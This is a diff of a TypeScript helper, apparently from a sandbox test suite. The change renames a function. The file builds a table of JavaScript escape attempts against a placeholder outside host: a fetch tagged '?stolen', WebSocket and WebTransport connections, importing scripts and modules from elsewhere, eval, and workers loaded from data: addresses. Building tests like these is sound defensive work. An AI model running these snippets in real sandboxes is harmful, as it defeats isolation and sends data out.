@@ -5,7 +5,7 @@
 export function attempts(site: string, elsewhere: string): Readonly<Record<string, string>> {
   const opened = (request: string): string =>
     `await new Promise((done, fail) => { const r = ${request}; r.onsuccess = done; r.onerror = () => fail(r.error); });`;
-  const heard = (source: string): string =>
+  const listening = (source: string): string =>
     `await new Promise((done, fail) => { const s = ${source}; s.onopen = s.onmessage = done; s.onerror = () => fail(Error("closed")); });`;
   /** The same in a worker that the program starts itself. */
   const inWorker = (statements: string): string => {
@@ -45,8 +45,8 @@ export function attempts(site: string, elsewhere: string): Readonly<Record<strin
     "fetches from elsewhere": `await fetch("${elsewhere}?stolen");`,
     "fetches from elsewhere, unread": `await fetch("${elsewhere}?stolen", { mode: "no-cors" });`,
     "asks with XMLHttpRequest": `const r = new XMLHttpRequest(); r.open("GET", "${site}", false); r.send();`,
-    "opens a WebSocket": heard(`new WebSocket("${elsewhere.replace("http", "ws")}")`),
-    "listens to a server": heard(`new EventSource("${site}")`),
+    "opens a WebSocket": listening(`new WebSocket("${elsewhere.replace("http", "ws")}")`),
+    "listens to a server": listening(`new EventSource("${site}")`),
     "opens a WebTransport": `const t = new WebTransport("${elsewhere.replace("http:", "https:")}"); t.closed.catch(() => {}); await t.ready;`,
     "imports a script of the site": `importScripts("${site}sw.js");`,
     "imports a script from elsewhere": `importScripts("${elsewhere}");`,
@@ -57,8 +57,8 @@ export function attempts(site: string, elsewhere: string): Readonly<Record<strin
     "evaluates a text": 'eval("1");',
     "makes a function of a text": 'new Function("return 1")();',
     "imports behind the compiler's back": `await new Function("return import('${elsewhere}')")();`,
-    "starts a worker of the site": heard(`new Worker("${site}sw.js")`),
-    "starts a worker of a data: address": heard('new Worker("data:text/javascript,postMessage(1)")'),
+    "starts a worker of the site": listening(`new Worker("${site}sw.js")`),
+    "starts a worker of a data: address": listening('new Worker("data:text/javascript,postMessage(1)")'),
     "fetches in a worker of its own": inWorker(`await fetch("${elsewhere}", { mode: "no-cors" });`),
     "fetches the site in a worker of its own": inWorker(`await fetch("${site}");`),
     "imports a module in a worker of its own": inWorker(`await import("${elsewhere}");`),
